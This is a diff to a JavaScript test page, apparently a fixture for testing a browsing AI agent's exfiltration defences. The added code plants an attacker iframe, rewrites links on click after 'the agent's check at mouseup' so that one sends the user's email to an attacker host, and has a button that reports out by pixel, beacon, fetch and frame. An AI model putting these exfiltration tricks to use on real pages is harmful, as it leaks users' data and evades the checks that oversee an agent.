@@ -24,3 +24,30 @@ for (const form of document.querySelectorAll('form[data-to-attacker]')) {
 for (const link of document.querySelectorAll('a[data-other]')) {
   link.href = `${new URLSearchParams(location.search).get('other')}${link.dataset.other}`;
 }
+
+// A frame of the attacker's site, planted in the user's page.
+for (const frame of document.querySelectorAll('iframe[data-attacker-frame]')) {
+  frame.src = `${attacker}${frame.dataset.attackerFrame}`;
+}
+
+// target=_blank links rewritten by a click handler, after the agent's check at mouseup: one to
+// carry the address, one to a plain page of the attacker's.
+document.getElementById('offer')?.addEventListener('click', (event) => {
+  event.currentTarget.href = `${attacker}/offer?e=${encodeURIComponent(email)}`;
+});
+document.getElementById('landing')?.addEventListener('click', (event) => {
+  event.currentTarget.href = `${attacker}/landing`;
+});
+
+// A button whose script reports to the attacker's host: an image, a beacon, a fetch, a frame
+// (the test site's CSP already keeps scripts from other hosts out).
+document.getElementById('load-more')?.addEventListener('click', () => {
+  new Image().src = `${attacker}/pixel.gif`;
+  navigator.sendBeacon(`${attacker}/beacon`, 'x');
+  fetch(`${attacker}/fetch`, { mode: 'no-cors' }).catch(() => {});
+  const frame = document.createElement('iframe');
+  frame.src = `${attacker}/frame.html`;
+  document.body.append(frame);
+  // Then to its own site, so that a test knows the reports have gone out.
+  frame.addEventListener('load', () => fetch('/exfil/reported').catch(() => {}), { once: true });
+});
